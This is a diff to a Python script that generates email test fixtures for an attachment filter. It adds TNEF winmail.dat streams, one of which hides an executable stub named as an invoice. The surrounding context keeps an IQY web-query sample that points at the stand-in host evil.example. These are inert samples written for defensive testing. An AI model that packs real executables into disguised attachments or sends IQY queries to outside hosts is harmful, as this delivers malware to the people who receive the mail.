@@ -69,9 +69,35 @@ write("deny", "rdp_file.eml",
 write("deny", "iqy_web_query.eml",
       mail("iqy", "data.iqy", b"WEB\r\n1\r\nhttps://evil.example/q.html\r\n"), dangerous=True)
 
-# Wrappers mugai does not open: TNEF and zstd magic numbers, then bytes.
+# Damaged wrappers: TNEF and zstd magic numbers, then bytes.
 TNEF = struct.pack("<IH", 0x223E9F78, 1) + bytes(range(64))
 write("deny", "tnef_winmail_dat.eml", mail("tnef", "winmail.dat", TNEF, "application/ms-tnef"), dangerous=True)
+
+# A TNEF stream as Outlook writes it (MS-OXTNEF records with checksums, an
+# attachment's long name in its MAPI properties): unpacked into ordinary
+# attachments, each judged on its own.
+def tnef_record(level, id_, data):
+    return bytes([level]) + struct.pack("<II", id_, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)
+
+
+def tnef_of(files):
+    out = bytes([0x78, 0x9F, 0x3E, 0x22]) + struct.pack("<H", 1)
+    out += tnef_record(1, 0x00089006, bytes([0, 0, 1, 0]))
+    out += tnef_record(1, 0x00069007, struct.pack("<II", 932, 0))
+    for name, data in files:
+        out += tnef_record(2, 0x00069002, struct.pack("<HIHHI", 1, 0xFFFFFFFF, 0, 0, 0))
+        out += tnef_record(2, 0x00018010, name.encode("shift_jis", "replace") + b"\0")
+        out += tnef_record(2, 0x0006800F, data)
+        utf16 = (name + "\0").encode("utf-16-le")
+        props = struct.pack("<IHHII", 1, 0x001F, 0x3707, 1, len(utf16)) + utf16 + b"\0" * (-len(utf16) % 4)
+        out += tnef_record(2, 0x00069005, props)
+    return out
+
+
+write("deny", "tnef_with_exe.eml",
+      mail("tnef", "winmail.dat", tnef_of([("請求書.exe", b"MZ\x90\x00" + bytes(300)),
+                                            ("議事録.txt", "会議は 3 時からです。\n".encode("utf-8"))]),
+           "application/ms-tnef"), dangerous=True)
 ZSTD = b"\x28\xb5\x2f\xfd" + bytes(range(64))
 write("deny", "zstd_stream.eml", mail("zstd", "logs.tar.zst", ZSTD), dangerous=True)
 
@@ -195,5 +221,8 @@ write("deny", "control_zstd_text.eml",
 write("deny", "control_eml_as_file.eml",
       mail("control forwarded", "転送メール.eml",
            saved_message("議事録", [text_part(BODY), attachment("議事録.txt", "会議は 3 時からです。\n".encode("utf-8"), "text/plain; charset=utf-8")])))
+write("deny", "control_tnef_text.eml",
+      mail("control tnef", "winmail.dat", tnef_of([("議事録.txt", "会議は 3 時からです。\n".encode("utf-8"))]),
+           "application/ms-tnef"))
 write("deny", "control_csv_with_formulas.eml",
       mail("control csv", "集計.csv", "品目,金額\n用紙,1200\n合計,=SUM(B2:B2)\n".encode("utf-8"), "text/csv"))
